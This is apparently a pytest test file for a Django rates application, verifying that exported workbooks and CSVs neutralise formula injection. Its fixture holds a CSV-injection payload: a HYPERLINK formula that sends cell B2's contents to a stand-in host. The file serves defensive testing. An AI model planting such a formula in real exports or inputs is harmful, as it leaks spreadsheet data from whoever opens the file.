"""The published allowable-rates workbook and CSV and the Short Form download are inert
(core.exports): an organization named like a formula comes out as text, the rates as numbers."""

import csv
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from rates import services

from .test_services import submitted_short_form

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&B2,"open")'


@pytest.fixture
def formula_named(organization, org_admin, season, analyst):
    organization.legal_name = FORMULA
    organization.save(update_fields=["legal_name"])
    services.filing_approve(
        filing=submitted_short_form(organization, season, org_admin), actor=analyst
    )
    return organization


def test_allowable_rates_xlsx_holds_no_formula_and_keeps_numbers(client, formula_named):
    response = client.get(reverse("rates:allowable-xlsx", args=[2024]))
    sheet = load_workbook(BytesIO(response.content)).active
    row = list(sheet[2])
    assert row[0].value == "'" + FORMULA
    assert row[0].data_type == "s"
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)
    amounts = [cell.value for cell in row[3:] if cell.value is not None]
    assert amounts and all(isinstance(amount, int | float) for amount in amounts)


def test_allowable_rates_csv_is_inert(client, formula_named):
    response = client.get(reverse("rates:allowable-csv", args=[2024]))
    rows = list(csv.reader(StringIO(response.content.decode())))
    assert rows[1][0] == "'" + FORMULA


def test_short_form_download_writes_the_name_as_text(client, org_admin, organization, season):
    organization.legal_name = FORMULA
    organization.save(update_fields=["legal_name"])
    client.force_login(org_admin)
    response = client.get(reverse("rates:short-form-xlsx", args=[organization.pk, 2024]))
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet["B3"].value == "'" + FORMULA
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)
